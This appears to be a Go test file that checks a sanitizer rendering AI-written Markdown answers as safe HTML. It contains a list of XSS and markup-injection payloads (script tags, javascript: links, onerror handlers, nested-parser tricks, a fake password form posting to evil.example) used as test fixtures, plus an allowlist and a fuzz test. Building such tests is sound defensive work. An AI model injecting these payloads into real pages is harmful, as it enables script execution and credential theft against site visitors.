package share_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"beckon/share"
)

// hostile are texts that a model may be made to write. None of them runs, loads or sends anything.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	"<scr<script>ipt>alert(1)</scr</script>ipt>",
	`<img src=x onerror=alert(1)>`,
	`<img src="https://evil.example/pixel.png">`,
	`![alt](https://evil.example/pixel.png "title")`,
	`![alt](javascript:alert(1))`,
	`[![alt](https://evil.example/a.png)](https://evil.example)`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	"[x](java\nscript:alert(1))",
	`[x](&#106;avascript:alert(1))`,
	`[x](java&Tab;script:alert(1))`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[x](vbscript:msgbox(1))`,
	`[x](file:///etc/passwd)`,
	`[x](/admin)`,
	`[x](//evil.example)`,
	`[x][1]` + "\n\n" + `[1]: javascript:alert(1)`,
	`<javascript:alert(1)>`,
	`<a href="javascript:alert(1)" onclick=alert(1)>x</a>`,
	`<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="https://x.example" style="position:fixed;inset:0" class=card id=main target=_blank>x</a>`,
	`<svg onload=alert(1)><animate onbegin=alert(1)></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<iframe src="https://evil.example"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">`,
	`<form action="https://evil.example"><input name=password type=password><button formaction=x>Log in</button></form>`,
	`<input type="text" onfocus=alert(1) autofocus>`,
	`<style>body{background:url(https://evil.example/x)}</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<video src="https://evil.example/x" autoplay onplay=alert(1)></video><audio src=https://evil.example/y></audio>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<p onmouseover="alert(1)">x</p>`,
	`<table background="https://evil.example/x"><tr><td style="x" onclick=alert(1)>y</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo "<script>alert(1)</script>" ?>`,
	"```html\n</code></pre><script>alert(1)</script>\n```",
	"`</code><script>alert(1)</script>`",
	"```\"><script>alert(1)</script>\nx\n```",
	"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
	"<textarea><script>alert(1)</script></textarea>",
	"<title><img src=x onerror=alert(1)></title>",
	"<xmp><img src=x onerror=alert(1)></xmp>",
	"<template><img src=x onerror=alert(1)></template>",
	"\x00<scr\x00ipt>alert(1)</script>",
	"\xff\xfe<script>alert(1)</script>",
}

// allowedAttributes are all that a page may have of an answer, by their elements.
var allowedAttributes = map[string][]string{"a": {"href", "rel"}, "ol": {"start"}, "th": {"align", "colspan", "rowspan"}, "td": {"align", "colspan", "rowspan"},
	"input": {"type", "checked", "disabled"}}

const allowedElements = " p br hr h1 h2 h3 h4 h5 h6 blockquote pre code kbd samp var em strong b i u s del ins mark small sub sup abbr cite q " +
	"ul ol li dl dt dd table caption thead tbody tfoot tr th td details summary a input html head body "

func requireHarmless(t *testing.T, text string) {
	// As a browser reads it: whatever a sanitizer may have thought of it.
	document, err := html.Parse(strings.NewReader(text))
	require.NoError(t, err)
	for n := range document.Descendants() {
		if n.Type == html.CommentNode {
			require.Fail(t, "a comment", "%s", text)
		}
		if n.Type != html.ElementNode {
			continue
		}
		require.Contains(t, allowedElements, " "+n.Data+" ", text)
		for _, a := range n.Attr {
			require.Contains(t, allowedAttributes[n.Data], a.Key, text)
			switch a.Key {
			case "href":
				require.Regexp(t, `^(https?://|mailto:)`, a.Val, text)
			case "type":
				require.Equal(t, "checkbox", a.Val, text)
			}
		}
	}
}

func TestAnAnswerCannotHarmItsReader(t *testing.T) {
	for _, text := range hostile {
		for _, answer := range []string{text, "Before.\n\n" + text + "\n\nAfter.", "> " + text, "- " + text, "**" + text + "**"} {
			requireHarmless(t, string(share.SafeHTML(answer, false)))
			requireHarmless(t, string(share.SafeHTML(answer, true)))
		}
	}
	requireHarmless(t, string(share.SafeHTML(strings.Join(hostile, "\n"), false)))
	requireHarmless(t, string(share.SafeHTML(strings.Join(hostile, ""), false)))
}

func FuzzSafeHTML(f *testing.F) {
	for _, text := range hostile {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) { requireHarmless(t, string(share.SafeHTML(text, false))) })
}

func TestMarkdown(t *testing.T) {
	for text, want := range map[string]string{
		"# Hi\n\nIt is **so**, ~~not~~.":                    "<h1>Hi</h1>\n<p>It is <strong>so</strong>, <del>not</del>.</p>\n",
		"| a | b |\n|:-:|--:|\n| 1<br>2 | H<sub>2</sub>O |": "<table>\n<thead>\n<tr>\n<th align=\"center\">a</th>\n<th align=\"right\">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"center\">1<br>2</td>\n<td align=\"right\">H<sub>2</sub>O</td>\n</tr>\n</tbody>\n</table>\n",
		"- [x] done\n- [ ] open":                            "<ul>\n<li><input checked=\"\" disabled=\"\" type=\"checkbox\"> done</li>\n<li><input disabled=\"\" type=\"checkbox\"> open</li>\n</ul>\n",
		"https://example.com":                               "<p><a href=\"https://example.com\" rel=\"nofollow noreferrer\">https://example.com</a></p>\n",
		"![A cat](https://example.com/cat.png)":             "<p><a href=\"https://example.com/cat.png\" rel=\"nofollow noreferrer\">A cat</a></p>\n",
		"![](https://example.com/a&b.png)":                  "<p><a href=\"https://example.com/a&amp;b.png\" rel=\"nofollow noreferrer\">https://example.com/a&amp;b.png</a></p>\n",
		"```go\na < b\n```":                                 "<pre><code>a &lt; b\n</code></pre>\n",
		"Tom & Jerry < 3":                                   "<p>Tom &amp; Jerry &lt; 3</p>\n",
		strings.Repeat("*x* <b>", 40<<10):                   "<pre>" + strings.Repeat("*x* &lt;b&gt;", 40<<10) + "</pre>",
	} {
		require.Equal(t, want, string(share.SafeHTML(text, false)), "%.80s", text)
	}
	require.Equal(t, "<pre>{\n  &#34;a&#34;: &#34;&lt;b&gt;&#34;\n}</pre>", string(share.SafeHTML(`{"a":"<b>"}`, true)))
}
